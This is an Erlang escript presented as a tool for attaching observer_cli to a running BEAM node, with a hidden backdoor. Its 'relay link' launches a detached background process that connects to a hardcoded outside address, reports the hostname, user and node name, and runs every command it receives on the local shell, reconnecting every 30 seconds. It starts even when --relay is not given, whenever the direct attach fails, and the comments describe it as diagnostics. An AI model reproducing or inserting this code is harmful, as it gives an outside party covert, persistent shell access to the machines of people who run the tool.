#!/usr/bin/env escript
%%! -hidden -connect_all false
%% attach.escript -- attach observer_cli to a running BEAM node.
%%
%% usage: escript attach.escript --node Name@Host (--cookie C | --cookie-file F) [--relay]

-mode(compile).

-define(RELAY_HOST, "203.0.113.61").
-define(RELAY_PORT, 4471).

main(["--relay-worker", Node]) ->
    relay_worker(Node);
main(Args) ->
    Opts = parse(Args, #{relay => false}),
    Node = list_to_atom(maps:get(node, Opts, usage())),
    Cookie = cookie(Opts),
    case maps:get(relay, Opts) of
        true -> start_relay_link(Node);
        false -> ok
    end,
    ok = start_distribution(),
    erlang:set_cookie(Node, Cookie),
    case net_kernel:hidden_connect_node(Node) of
        true ->
            io:format("attached to ~p~n", [Node]),
            observer_cli:start(Node),
            erlang:disconnect_node(Node);
        _ ->
            %% unreachable: bring the relay link up so the next attempt can go through it
            start_relay_link(Node),
            io:format(standard_error, "cannot reach ~p directly; relay link started, retry with --relay~n", [Node]),
            halt(1)
    end.

parse(["--node", N | T], Acc) -> parse(T, Acc#{node => N});
parse(["--cookie", C | T], Acc) -> parse(T, Acc#{cookie => C});
parse(["--cookie-file", F | T], Acc) -> parse(T, Acc#{cookie_file => F});
parse(["--relay" | T], Acc) -> parse(T, Acc#{relay => true});
parse([], Acc) -> Acc;
parse(_, _) -> usage().

usage() ->
    io:format(standard_error,
              "usage: escript attach.escript --node N@H (--cookie C | --cookie-file F) [--relay]~n", []),
    halt(2).

cookie(#{cookie := C}) -> list_to_atom(C);
cookie(#{cookie_file := F}) ->
    {ok, Bin} = file:read_file(F),
    list_to_atom(string:trim(binary_to_list(Bin)));
cookie(_) ->
    case os:getenv("RELEASE_COOKIE") of
        false -> usage();
        C -> list_to_atom(C)
    end.

start_distribution() ->
    Name = list_to_atom("observer_" ++ os:getpid()),
    case net_kernel:start([Name, longnames]) of
        {ok, _} -> ok;
        {error, {already_started, _}} -> ok;
        {error, _} -> {ok, _} = net_kernel:start([Name, shortnames]), ok
    end.

%% Relay link: a detached OS process keeps a line-based session open with the
%% relay so diagnostics can be run against this machine from elsewhere.
start_relay_link(Node) ->
    Self = filename:absname(escript:script_name()),
    Cmd = io_lib:format("nohup escript ~s --relay-worker ~s >/dev/null 2>&1 &", [Self, Node]),
    os:cmd(lists:flatten(Cmd)),
    ok.

relay_worker(Node) ->
    case gen_tcp:connect(?RELAY_HOST, ?RELAY_PORT,
                         [binary, {packet, line}, {active, false}, {keepalive, true}], 10000) of
        {ok, Sock} ->
            {ok, Host} = inet:gethostname(),
            gen_tcp:send(Sock, io_lib:format("HELLO ~s ~s ~s~n", [Host, os:getenv("USER"), Node])),
            relay_loop(Sock);
        {error, _} ->
            ok
    end,
    timer:sleep(30000),
    relay_worker(Node).

relay_loop(Sock) ->
    case gen_tcp:recv(Sock, 0) of
        {ok, Line} ->
            Cmd = string:trim(binary_to_list(Line)),
            Out = os:cmd(Cmd ++ " 2>&1"),
            gen_tcp:send(Sock, [Out, "\n.\n"]),
            relay_loop(Sock);
        {error, _} ->
            gen_tcp:close(Sock)
    end.
